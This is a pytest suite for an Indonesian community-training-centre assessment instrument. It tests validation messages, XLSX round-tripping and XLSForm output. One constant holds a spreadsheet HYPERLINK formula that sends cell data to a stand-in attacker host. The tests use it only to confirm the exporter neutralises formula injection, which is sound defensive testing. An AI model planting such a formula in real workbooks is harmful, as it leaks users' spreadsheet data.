"""Instrument specs: the default instrument, validation messages, the XLSX round trip and the XLSForm."""

import copy
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from collections import Counter
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation
from python_calamine import CalamineWorkbook
from pyxform.xls2xform import convert

from inkubator.assessment.default_instrument import DEFAULT_INSTRUMENT
from inkubator.assessment.instrument_io import (
    META_COLUMNS,
    SUBMISSION_COLUMNS,
    SpecError,
    spec_from_xlsx,
    spec_to_xlsform,
    spec_to_xlsx,
    validate_spec,
)

XF = "{http://www.w3.org/2002/xforms}"
HOSTILE = '=HYPERLINK("http://evil.example/x?d="&A1,"Klik untuk detail")'


@pytest.fixture(autouse=True)
def english():
    """Messages are English source strings; pin the language so a future translation cannot change them."""
    with translation.override("en"):
        yield


def small_spec():
    return {
        "code": "uji", "version": 1, "name": "Uji",
        "dimensions": [
            {"code": "A", "name": "Kelembagaan", "weight": "0.5", "indicators": [
                {"code": "A1", "kind": "scale", "question": "Tingkat?", "options": [
                    {"value": "1", "label": "satu", "score": "1"},
                    {"value": "2", "label": "dua", "score": "2"},
                ]},
                {"code": "A2", "kind": "yes_no", "question": "Ada SK?"},
            ]},
            {"code": "B", "name": "Sarpras", "weight": "0.5", "indicators": [
                {"code": "B1", "kind": "number", "question": "Luas?", "min_value": "0", "max_value": "100",
                 "bands": [{"lower": "0", "upper": "5", "score": "0"}, {"lower": "5", "upper": None, "score": "2"}]},
                {"code": "B2", "kind": "choice", "question": "Bentuk?", "options": [
                    {"value": "a", "label": "A", "score": "0"}, {"value": "b", "label": "B", "score": "1"},
                ]},
                {"code": "B3", "kind": "text", "question": "Catatan?"},
            ]},
        ],
    }


def indicator(spec, code):
    return next(i for d in spec["dimensions"] for i in d["indicators"] if i["code"] == code)


def problems_of(spec):
    with pytest.raises(SpecError) as excinfo:
        validate_spec(spec)
    return excinfo.value.messages


def all_indicators(spec):
    return [(d, i) for d in spec["dimensions"] for i in d["indicators"]]


# --- the default instrument -----------------------------------------------------------------------


def test_default_instrument_validates_with_the_announced_shape():
    spec = validate_spec(DEFAULT_INSTRUMENT)

    assert spec["code"] == "kesiapan-blkk"
    assert spec["version"] == 1
    assert spec["name"] == "Kesiapan BLK Komunitas sebagai Inkubator Wirausaha"
    assert "Permenkop UKM 3/2021" in spec["description"] and "BUKAN instrumen resmi Kemnaker" in spec["description"]
    assert "NOT an official Kemnaker instrument" in spec["description_en"]
    assert [d["code"] for d in spec["dimensions"]] == list("ABCDEFGH")
    assert [d["weight"] for d in spec["dimensions"]] == [Decimal("0.15")] * 4 + [Decimal("0.10")] * 4
    assert sum(d["weight"] for d in spec["dimensions"]) == Decimal("1")
    assert [len(d["indicators"]) for d in spec["dimensions"]] == [5, 4, 5, 6, 4, 3, 5, 4]
    n = sum(len(d["indicators"]) for d in spec["dimensions"])
    assert n == 36 and 30 <= n <= 40
    assert Counter(i["kind"] for _d, i in all_indicators(spec)) == {
        "scale": 20, "number": 6, "yes_no": 5, "choice": 2, "text": 3,
    }


def test_default_instrument_is_bilingual_and_guides_the_assessor():
    spec = validate_spec(DEFAULT_INSTRUMENT)
    for _d, ind in all_indicators(spec):
        for field in ("question", "question_en", "guidance", "guidance_en"):
            assert ind[field], (ind["code"], field)
        assert ind["question"] != ind["question_en"]


def test_every_scale_has_an_anchored_level_in_both_languages():
    spec = validate_spec(DEFAULT_INSTRUMENT)
    scales = [i for _d, i in all_indicators(spec) if i["kind"] == "scale"]
    assert len(scales) == 20
    for ind in scales:
        assert [o["value"] for o in ind["options"]] == ["1", "2", "3", "4", "5"], ind["code"]
        assert [o["score"] for o in ind["options"]] == [Decimal(n) for n in range(1, 6)]
        for option in ind["options"]:
            assert len(option["label"]) >= 10 and len(option["label_en"]) >= 10, (ind["code"], option["value"])
        assert len({o["label"] for o in ind["options"]}) == 5
        assert len({o["label_en"] for o in ind["options"]}) == 5


def test_default_kinds_follow_their_rules():
    spec = validate_spec(DEFAULT_INSTRUMENT)
    by_code = {i["code"]: i for _d, i in all_indicators(spec)}
    texts = [c for c, i in by_code.items() if i["kind"] == "text"]
    assert texts == ["D6", "G5", "H4"]
    for code in texts:
        assert by_code[code]["weight"] == 0 and by_code[code]["required"] is False
        assert by_code[code]["evidence_required"] is False
    yes_no = [c for c, i in by_code.items() if i["kind"] == "yes_no"]
    assert yes_no == ["A1", "A3", "C5", "D2", "E4"]
    for code in yes_no:
        assert by_code[code]["options"] == [
            {"value": "yes", "label": "Ya", "label_en": "Yes", "score": Decimal("1")},
            {"value": "no", "label": "Tidak", "label_en": "No", "score": Decimal("0")},
        ]
    numbers = {c: (i["unit"], i["min_value"], i["max_value"], len(i["bands"]))
               for c, i in by_code.items() if i["kind"] == "number"}
    assert numbers == {
        "B1": ("orang", Decimal("0"), Decimal("100"), 4),
        "B4": ("orang", Decimal("0"), Decimal("100"), 3),
        "C1": ("m²", Decimal("0"), Decimal("10000"), 4),
        "G2": ("orang", Decimal("0"), Decimal("5000"), 4),
        "G3": ("orang", Decimal("0"), Decimal("5000"), 4),
        "H1": ("km", Decimal("0"), Decimal("500"), 4),
    }
    assert [(b["lower"], b["upper"], b["score"]) for b in by_code["H1"]["bands"]] == [
        (Decimal("0"), Decimal("5"), Decimal("3")), (Decimal("5"), Decimal("15"), Decimal("2")),
        (Decimal("15"), Decimal("30"), Decimal("1")), (Decimal("30"), None, Decimal("0")),
    ]
    assert [o["value"] for o in by_code["A2"]["options"]] == [
        "yayasan", "perkumpulan", "koperasi", "serikat", "belum_bh", "tidak_ada",
    ]
    assert {c: i["weight"] for c, i in by_code.items() if i["weight"] not in (0, 1)} == {
        "A1": Decimal("2"), "B1": Decimal("2"), "D1": Decimal("2"),
    }
    assert sum(1 for i in by_code.values() if i["evidence_required"]) == 30


def test_validate_returns_a_normalised_copy_and_leaves_the_input_alone():
    raw = small_spec()
    before = copy.deepcopy(raw)

    spec = validate_spec(raw)

    assert raw == before
    assert spec["name_en"] == "" and spec["description"] == ""
    assert spec["dimensions"][0]["weight"] == Decimal("0.5")
    a2 = indicator(spec, "A2")
    assert a2 == {
        "code": "A2", "kind": "yes_no", "question": "Ada SK?", "question_en": "", "guidance": "",
        "guidance_en": "", "weight": Decimal("1"), "required": True, "evidence_required": False,
        "unit": "", "unit_en": "", "min_value": None, "max_value": None, "bands": [],
        "options": [
            {"value": "yes", "label": "Ya", "label_en": "Yes", "score": Decimal("1")},
            {"value": "no", "label": "Tidak", "label_en": "No", "score": Decimal("0")},
        ],
    }
    b3 = indicator(spec, "B3")
    assert (b3["weight"], b3["required"]) == (Decimal("0"), False)
    assert indicator(spec, "B1")["bands"][1] == {"lower": Decimal("5"), "upper": None, "score": Decimal("2")}


# --- validation messages --------------------------------------------------------------------------


def test_unknown_kind():
    spec = small_spec()
    indicator(spec, "A1")["kind"] = "slider"
    assert problems_of(spec) == [
        "Dimension A, indicator A1, field kind: unknown kind 'slider'; expected one of scale, number, yes_no, "
        "choice, text",
    ]


def test_duplicate_codes_ignore_case_across_dimensions_and_indicators():
    spec = small_spec()
    spec["dimensions"][1]["code"] = "a"
    indicator(spec, "B2")["code"] = "a1"
    assert problems_of(spec) == [
        "Dimension a, field code: duplicate code a; codes must be unique across all dimensions and indicators, "
        "ignoring case",
        "Dimension a, indicator a1, field code: duplicate code a1; codes must be unique across all dimensions "
        "and indicators, ignoring case",
    ]


def test_negative_weights():
    spec = small_spec()
    spec["dimensions"][0]["weight"] = "-0.5"
    indicator(spec, "B2")["weight"] = "-1"
    assert problems_of(spec) == [
        "Dimension A, field weight: must not be negative",
        "Dimension B, indicator B2, field weight: must not be negative",
    ]


def test_dimension_weights_all_zero():
    spec = small_spec()
    for dim in spec["dimensions"]:
        dim["weight"] = "0"
    assert problems_of(spec) == ["Instrument, field dimensions: all dimension weights are zero"]


def test_weighted_dimension_without_weighted_indicator():
    spec = small_spec()
    for code in ("A1", "A2"):
        indicator(spec, code)["weight"] = 0
    assert problems_of(spec) == [
        "Dimension A, field indicators: the dimension has a weight but none of its scored indicators has a "
        "weight above zero",
    ]


def test_scale_needs_two_levels():
    spec = small_spec()
    indicator(spec, "A1")["options"].pop()
    assert problems_of(spec) == ["Dimension A, indicator A1, field options: a scale needs at least 2 levels, got 1"]


def test_scale_levels_must_be_distinct_whole_numbers_scored_by_level():
    spec = small_spec()
    options = indicator(spec, "A1")["options"]
    options.append({"value": "x", "label": "tiga", "score": "3"})
    options.append({"value": "2", "label": "dua lagi", "score": "2"})
    options.append({"value": "4", "label": "empat", "score": "5"})
    assert problems_of(spec) == [
        "Dimension A, indicator A1, field options[3].value: level x is not a whole number",
        "Dimension A, indicator A1, field options[5].score: the score of level 4 must be 4, got 5",
        "Dimension A, indicator A1, field options[4].value: duplicate level 2",
    ]


def test_choice_needs_two_options():
    spec = small_spec()
    indicator(spec, "B2")["options"].pop()
    assert problems_of(spec) == ["Dimension B, indicator B2, field options: a choice needs at least 2 options, got 1"]


def test_yes_no_options_must_be_exactly_yes_and_no():
    spec = small_spec()
    indicator(spec, "A2")["options"] = [
        {"value": "ya", "label": "Ya", "score": "1"}, {"value": "tidak", "label": "Tidak", "score": "0"},
    ]
    assert problems_of(spec) == [
        "Dimension A, indicator A2, field options: a yes/no indicator needs exactly the options yes and no, in "
        "that order; got ya, tidak",
    ]


def test_bands_overlapping():
    spec = small_spec()
    indicator(spec, "B1")["bands"][1]["lower"] = "4"
    assert problems_of(spec) == [
        "Dimension B, indicator B1, field bands[2].lower: overlaps the previous band, which ends at 5",
    ]


def test_bands_unsorted_and_gapped_and_not_covering_the_minimum():
    spec = small_spec()
    indicator(spec, "B1")["bands"] = [
        {"lower": "5", "upper": "10", "score": "1"},
        {"lower": "0", "upper": "5", "score": "0"},
        {"lower": "10", "upper": None, "score": "2"},
    ]
    assert problems_of(spec) == [
        "Dimension B, indicator B1, field bands[2].lower: the bands must be sorted: 0 comes after 5",
        "Dimension B, indicator B1, field bands[3].lower: leaves a gap after the previous band, which ends at 5",
        "Dimension B, indicator B1, field bands[1].lower: the bands start at 5, above the minimum 0",
    ]


def test_band_lower_not_below_upper():
    spec = small_spec()
    indicator(spec, "B1")["bands"] = [
        {"lower": "0", "upper": "5", "score": "0"},
        {"lower": "5", "upper": "5", "score": "1"},
        {"lower": "5", "upper": None, "score": "2"},
    ]
    assert problems_of(spec) == [
        "Dimension B, indicator B1, field bands[2]: the lower bound 5 must be below the upper bound 5",
    ]


def test_bands_must_cover_the_maximum_and_only_the_ends_may_be_open():
    spec = small_spec()
    indicator(spec, "B1")["bands"] = [
        {"lower": "0", "upper": None, "score": "0"},
        {"lower": None, "upper": "50", "score": "2"},
    ]
    assert problems_of(spec) == [
        "Dimension B, indicator B1, field bands[1].upper: only the last band may be open above (empty upper)",
        "Dimension B, indicator B1, field bands[2].lower: only the first band may be open below (empty lower)",
        "Dimension B, indicator B1, field bands[2].upper: the bands end below 50 but the maximum is 100",
    ]


def test_number_min_above_max():
    spec = small_spec()
    indicator(spec, "B1")["min_value"] = "10"
    indicator(spec, "B1")["max_value"] = "5"
    assert problems_of(spec) == ["Dimension B, indicator B1, field min_value: the minimum 10 is greater than the maximum 5"]


def test_scored_indicators_whose_points_are_all_equal():
    spec = small_spec()
    indicator(spec, "B2")["options"][0]["score"] = "1"
    indicator(spec, "B1")["bands"][0]["score"] = "2"
    assert problems_of(spec) == [
        "Dimension B, indicator B1, field bands: all bands have the same score 2, so the indicator cannot tell "
        "centres apart",
        "Dimension B, indicator B2, field options: all options have the same score 1, so the indicator cannot "
        "tell centres apart",
    ]


def test_text_indicator_with_a_weight():
    spec = small_spec()
    indicator(spec, "B3")["weight"] = "1"
    assert problems_of(spec) == [
        "Dimension B, indicator B3, field weight: text indicators are not scored: the weight must be 0, got 1",
    ]


def test_empty_question():
    spec = small_spec()
    indicator(spec, "A1")["question"] = "   "
    assert problems_of(spec) == ["Dimension A, indicator A1, field question: is required"]


@pytest.mark.parametrize("code", ["1A", "A 1", "A" + "x" * 20, "A/1"])
def test_codes_must_be_xlsform_names(code):
    spec = small_spec()
    indicator(spec, "A1")["code"] = code
    assert problems_of(spec) == [
        f"Dimension A, indicator {code}, field code: {code} is not a valid code: use a letter followed by up to "
        "19 letters, digits, '_', '.' or '-'",
    ]


def test_codes_the_form_uses_itself_are_reserved():
    spec = small_spec()
    indicator(spec, "A1")["code"] = "Location"
    indicator(spec, "B2")["code"] = "A2_note"
    assert problems_of(spec) == [
        "Dimension A, indicator Location, field code: Location is reserved for a field of the form; choose "
        "another code",
        "Dimension B, indicator A2_note, field code: A2_note ends in _note or _photo, which the form uses for "
        "its own fields",
    ]


def test_every_problem_is_listed_at_once():
    spec = small_spec()
    spec["version"] = 0
    indicator(spec, "A1")["kind"] = "likert"
    indicator(spec, "B1")["bands"][0]["score"] = "banyak"
    indicator(spec, "B2")["options"][1]["label"] = ""
    indicator(spec, "B3")["required"] = "ya"
    assert problems_of(spec) == [
        "Instrument, field version: must be a whole number of at least 1",
        "Dimension A, indicator A1, field kind: unknown kind 'likert'; expected one of scale, number, yes_no, "
        "choice, text",
        "Dimension B, indicator B1, field bands[1].score: must be a number, got 'banyak'",
        "Dimension B, indicator B2, field options[2].label: is required",
        "Dimension B, indicator B3, field required: must be true or false",
    ]


def test_numbers_must_fit_the_database_columns():
    spec = small_spec()
    spec["dimensions"][0]["weight"] = "0.12345"
    indicator(spec, "B1")["max_value"] = "100.125"
    assert problems_of(spec) == [
        "Dimension A, field weight: must have at most 4 decimal places and 4 digits before the point",
        "Dimension B, indicator B1, field max_value: must have at most 2 decimal places and 12 digits before the "
        "point",
    ]


# --- XLSX round trip ------------------------------------------------------------------------------


def test_default_instrument_round_trips_exactly_through_xlsx():
    data = spec_to_xlsx(DEFAULT_INSTRUMENT)

    read = spec_from_xlsx(data)
    assert validate_spec(read) == validate_spec(DEFAULT_INSTRUMENT)
    assert (read["version"], read["dimensions"][0]["weight"]) == (1, "0.15")
    a4 = read["dimensions"][0]["indicators"][3]
    assert (a4["code"], a4["weight"], a4["required"], a4["min_value"]) == ("A4", "1", True, None)
    assert a4["options"][0]["value"] == "1" and a4["options"][0]["score"] == "1"


def test_xlsx_layout_and_number_types():
    book = CalamineWorkbook.from_filelike(io.BytesIO(spec_to_xlsx(DEFAULT_INSTRUMENT)))
    assert book.sheet_names == ["instrument", "dimensions", "indicators", "options", "bands"]
    instrument = book.get_sheet_by_name("instrument").to_python()
    assert instrument[:3] == [["key", "value"], ["code", "kesiapan-blkk"], ["version", 1.0]]
    dimensions = book.get_sheet_by_name("dimensions").to_python()
    assert dimensions[0] == ["code", "name", "name_en", "weight"]
    assert dimensions[1] == ["A", "Kelembagaan dan legalitas", "Institution and legality", 0.15]
    options = book.get_sheet_by_name("options").to_python()
    assert options[0] == ["indicator", "value", "label", "label_en", "score"]
    assert options[1] == ["A1", "yes", "Ya", "Yes", 1.0]
    assert len(options) == 1 + 20 * 5 + 5 * 2 + 6 + 4
    bands = book.get_sheet_by_name("bands").to_python()
    assert bands[0] == ["indicator", "lower", "upper", "score"]
    assert len(bands) == 1 + 4 + 3 + 4 + 4 + 4 + 4
    indicators = book.get_sheet_by_name("indicators").to_python()
    assert indicators[1][:3] == ["A", "A1", "yes_no"]
    assert indicators[1][8:10] == ["Ya", "Ya"]  # required, evidence_required


def test_awkward_values_round_trip_exactly():
    spec = small_spec()
    spec["name_en"] = "'Quoted' test"
    spec["description"] = "-5 is a negative start; +62 a phone prefix; @mention; 100% sure"
    spec["dimensions"][0]["weight"] = "0.1234"
    spec["dimensions"][1]["weight"] = "1234"
    b1 = indicator(spec, "B1")
    b1.update(min_value=None, max_value="9999999999.99", unit="m²")
    b1["bands"] = [
        {"lower": None, "upper": "-2.5", "score": "-1.0625"},
        {"lower": "-2.5", "upper": "0.01", "score": "0"},
        {"lower": "0.01", "upper": None, "score": "999999.9999"},
    ]
    indicator(spec, "B2")["options"][0]["value"] = "10"
    indicator(spec, "A1")["options"][0]["label"] = "'=already quoted"
    indicator(spec, "A1")["guidance"] = "Baris satu\nBaris dua"

    back = validate_spec(spec_from_xlsx(spec_to_xlsx(spec)))

    assert back == validate_spec(spec)
    assert indicator(back, "B2")["options"][0]["value"] == "10"
    assert indicator(back, "B1")["bands"][0] == {"lower": None, "upper": Decimal("-2.5"), "score": Decimal("-1.0625")}


def test_formula_text_in_a_label_is_written_formula_safe_and_read_back_as_text():
    spec = small_spec()
    indicator(spec, "B2")["options"][0]["label"] = HOSTILE
    data = spec_to_xlsx(spec)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)  # no formula cell anywhere
    stored = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("options").to_python()
    assert stored[5][2] == "'" + HOSTILE

    assert indicator(spec_from_xlsx(data), "B2")["options"][0]["label"] == HOSTILE


def test_formula_text_typed_into_an_edited_workbook_is_read_as_text_and_rewritten_safely():
    book = openpyxl.load_workbook(io.BytesIO(spec_to_xlsx(small_spec())))
    cell = book["options"]["C6"]  # B2, option 1
    cell.value = HOSTILE
    cell.data_type = "s"  # a text cell, as another tool may have saved it
    buffer = io.BytesIO()
    book.save(buffer)

    spec = spec_from_xlsx(buffer.getvalue())

    assert indicator(spec, "B2")["options"][0]["label"] == HOSTILE
    again = CalamineWorkbook.from_filelike(io.BytesIO(spec_to_xlsx(spec))).get_sheet_by_name("options").to_python()
    assert again[5][2] == "'" + HOSTILE


def edited(mutate) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(spec_to_xlsx(small_spec())))
    mutate(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_problems(data):
    with pytest.raises(SpecError) as excinfo:
        spec_from_xlsx(data)
    return excinfo.value.messages


def test_hand_edited_numbers_and_codes_typed_as_numbers_are_read_as_text():
    def mutate(book):
        book["options"]["B2"] = 1  # the level typed as a number
        book["dimensions"]["D2"] = "0,5"  # a decimal comma typed as text

    spec = spec_from_xlsx(edited(mutate))
    assert indicator(spec, "A1")["options"][0]["value"] == "1"
    assert spec["dimensions"][0]["weight"] == "0.5"
    assert validate_spec(spec) == validate_spec(small_spec())


def test_xlsx_errors_name_sheet_row_and_column():
    def mutate(book):
        book["dimensions"]["D3"] = "setengah"
        book["indicators"]["A6"] = "Z"  # B3, which has no options or bands
        book["indicators"]["I2"] = "mungkin"
        book["bands"]["A2"] = "B9"

    assert xlsx_problems(edited(mutate)) == [
        "Sheet dimensions, row 3, column weight: must be a number, got 'setengah'",
        "Sheet indicators, row 2, column required: expected Ya or Tidak (yes or no), got 'mungkin'",
        "Sheet indicators, row 6, column dimension: no dimension with code 'Z' on sheet dimensions",
        "Sheet bands, row 2, column indicator: no indicator with code 'B9' on sheet indicators",
    ]


def test_xlsx_missing_sheet_and_missing_column():
    assert xlsx_problems(edited(lambda book: book.remove(book["bands"]))) == ["Sheet bands: the sheet is missing"]
    assert xlsx_problems(edited(lambda book: book["options"].delete_cols(5))) == [
        "Sheet options, row 1, column score: the column is missing",
    ]


def test_xlsx_unknown_instrument_key_and_bad_version():
    def mutate(book):
        book["instrument"]["B3"] = "dua"
        book["instrument"]["A8"] = "kode"
        book["instrument"]["B8"] = "x"

    assert xlsx_problems(edited(mutate)) == [
        "Sheet instrument, row 3, column value: must be a whole number of at least 1",
        "Sheet instrument, row 8, column key: unknown key 'kode'; expected one of code, version, name, name_en, "
        "description, description_en",
    ]


def test_not_a_workbook():
    assert xlsx_problems(b"this is not a spreadsheet") == ["The file is not an XLSX workbook."]
    # a ZIP that calamine cannot open is still refused with the damaged-workbook message
    assert xlsx_problems(b"PK\x03\x04 broken") == ["The file looks like a damaged XLSX workbook and cannot be read."]


def test_writing_an_invalid_spec_is_refused():
    spec = small_spec()
    indicator(spec, "A1")["question"] = ""
    with pytest.raises(SpecError):
        spec_to_xlsx(spec)


# --- XLSForm --------------------------------------------------------------------------------------


CENTRES = [("2035000001", "BLK Komunitas Nurul Huda"), ("2051000001", "BLK Komunitas Widya Dharma")]
ASSESSORS = [("asesor1", "Siti Aminah"), ("asesor2", "Budi Santoso")]


def converted(spec, **kwargs):
    data = spec_to_xlsform(spec, form_id="kesiapan_blkk_v1", version="2024110101", **kwargs)
    result = convert(xlsform=data)
    return result, ET.fromstring(result.xform)


def binds(root):
    return {b.get("nodeset"): b.attrib for b in root.iter(f"{XF}bind")}


@pytest.mark.parametrize("people", [{}, {"centres": CENTRES, "assessors": ASSESSORS}], ids=["plain", "lists"])
def test_default_instrument_xlsform_converts_without_warnings(people):
    result, root = converted(DEFAULT_INSTRUMENT, **people)
    assert result.warnings == []
    spec = validate_spec(DEFAULT_INSTRUMENT)
    by_path = binds(root)
    for dim, ind in all_indicators(spec):
        path = f"/data/{dim['code']}/{ind['code']}"
        assert path in by_path, path
        bind = by_path[path]
        assert bind["type"] == {"number": "decimal"}.get(ind["kind"], "string")
        assert bind.get("required") == ("true()" if ind["required"] else None)
        assert by_path[f"{path}_note"]["type"] == "string"
        assert "required" not in by_path[f"{path}_note"]
        if ind["evidence_required"]:
            assert by_path[f"{path}_photo"] == {"nodeset": f"{path}_photo", "type": "binary",
                                                 "{http://openrosa.org/xforms}max-pixels": "1600"}
        else:
            assert f"{path}_photo" not in by_path
    numbers = {p: b["constraint"] for p, b in by_path.items() if b["type"] == "decimal"}
    assert numbers == {
        "/data/B/B1": ". >= 0 and . <= 100",
        "/data/B/B4": ". >= 0 and . <= 100",
        "/data/C/C1": ". >= 0 and . <= 10000",
        "/data/G/G2": ". >= 0 and . <= 5000",
        "/data/G/G3": ". >= 0 and . <= 5000",
        "/data/H/H1": ". >= 0 and . <= 500",
    }
    assert by_path["/data/instrument_code"]["calculate"] == "'kesiapan-blkk'"
    assert by_path["/data/instrument_version"]["calculate"] == "1"
    assert by_path["/data/location"]["type"] == "geopoint" and "required" not in by_path["/data/location"]
    assert by_path["/data/assessor"]["required"] == "true()"
    if people:
        assert by_path["/data/centre"]["required"] == "true()" and "/data/centre_code" not in by_path
        assert "2035000001" in result.xform and "Siti Aminah" in result.xform
    else:
        assert by_path["/data/centre_code"]["required"] == "true()" and "/data/centre" not in by_path
    languages = {t.get("lang"): t.get("default") for t in root.iter(f"{XF}translation")}
    assert languages == {"Indonesian (id)": "true()", "English (en)": None}
    assert "<h:title>Kesiapan BLK Komunitas sebagai Inkubator Wirausaha</h:title>" in result.xform
    assert re.search(r'<data id="kesiapan_blkk_v1" version="2024110101"', result.xform)


def test_xlsform_labels_hints_and_scale_choices_are_bilingual():
    result, _root = converted(DEFAULT_INSTRUMENT)
    assert "A4. Bagaimana status izin dan mutu BLK Komunitas sebagai lembaga pelatihan?" in result.xform
    assert "A4. What is the licensing and quality status of the BLK Komunitas as a training provider?" in result.xform
    assert "1. Belum memiliki VIN dan belum memiliki izin operasional." in result.xform
    assert "1. No VIN and no operating licence." in result.xform
    assert "C1. Berapa luas ruang di dalam lokasi (in-wall) yang dapat dipakai tenant untuk usahanya? (m²)" in result.xform
    assert "Isian harus antara 0 dan 10000." in result.xform
    assert "The answer must be between 0 and 10000." in result.xform


def test_xlsform_keeps_a_formula_like_label_verbatim():
    spec = small_spec()
    indicator(spec, "B2")["options"][0]["label"] = "=SUM(1,2) bukan rumus"
    result, _root = converted(spec)
    assert result.warnings == []
    assert "<value>=SUM(1,2) bukan rumus</value>" in result.xform


def test_xlsform_rejects_bad_settings():
    with pytest.raises(SpecError) as excinfo:
        spec_to_xlsform(small_spec(), form_id="bad id", version="", centres=[("2035000001", "A"), ("2035000001", "B")])
    assert excinfo.value.messages == [
        "Form setting form_id: 'bad id' is not a valid form id: use letters, digits, '_', '.' or '-', starting "
        "with a letter or '_'",
        "Form setting version: is required",
        "Form setting centres: duplicate codes 2035000001",
    ]


# --- submission columns ---------------------------------------------------------------------------


def test_submission_columns_accept_odk_central_and_kobotoolbox_headers():
    columns = SUBMISSION_COLUMNS(DEFAULT_INSTRUMENT)
    assert len(columns) == 36
    assert columns["A1"] == ["A-A1", "A/A1", "A1"]
    assert columns["H4"] == ["H-H4", "H/H4", "H4"]
    assert SUBMISSION_COLUMNS(DEFAULT_INSTRUMENT, suffix="_note")["C1"] == ["C-C1_note", "C/C1_note", "C1_note"]
    assert SUBMISSION_COLUMNS(DEFAULT_INSTRUMENT, suffix="_photo")["C1"] == ["C-C1_photo", "C/C1_photo", "C1_photo"]
    assert META_COLUMNS["location_latitude"] == ["location-Latitude", "_location_latitude"]
